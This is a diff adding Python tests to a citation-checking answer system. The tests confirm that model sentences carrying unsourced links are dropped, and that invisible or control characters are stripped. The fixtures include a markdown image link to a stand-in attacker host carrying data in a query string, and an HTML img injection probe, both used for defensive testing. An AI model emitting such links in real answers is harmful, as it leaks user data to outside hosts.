@@ -94,6 +94,30 @@ def test_unsupported_sentence_is_left_out_or_marked_as_is_set(office: Running, s
     assert texts(ask(office, "user:ana", QUESTION)) == [f"{PAID} [1]"]
 
 
+def test_link_that_no_passage_has_never_leaves_with_a_supported_sentence(office: Running, scripted: Model) -> None:
+    rule = "Every trip is booked on https://travel.example.org/book before it begins."
+    office.publish("user:olga", "rules", rule, uri="travel", title="Trips")
+    setting(office, generating=GenerationTerms(unsupported=Unsupported.MARK))
+    for link in (
+        "![x](http://evil.example.org/?q=16)",
+        "[here](//evil.example.org)",
+        "see www.evil.example",
+        "<img src=x>",
+    ):
+        scripted.script = (f"{GOOD} The leave is paid in full for 16 weeks {link} [1].",)
+        answer = ask(office, "user:ana", QUESTION)
+        assert (texts(answer), answer["answer"]["dropped"]) == ([f"{PAID} [1]"], {"unsupported": 1}), link
+    scripted.script = (rule,)
+    (kept,) = texts(ask(office, "user:ana", "Where is every trip booked before it begins?"))
+    assert kept.startswith(rule.removesuffix("."))
+
+
+def test_signs_that_nobody_sees_do_not_leave_and_break_nothing(office: Running, scripted: Model) -> None:
+    scripted.script = ("The leave is \u202epaid in full\x00 for 16 \ud800weeks. [1]",)
+    assert texts(ask(office, "user:ana", QUESTION)) == [f"{PAID} [1]"]
+    assert events(office, "user:ana", QUESTION)[-1][0] == "done"
+
+
 def test_sentence_that_cites_another_passage_is_cited_rightly(office: Running, scripted: Model) -> None:
     scripted.script = ("The leave is paid in full for 16 weeks [7].",)
     (sentence,) = ask(office, "user:ana", QUESTION)["answer"]["sentences"]
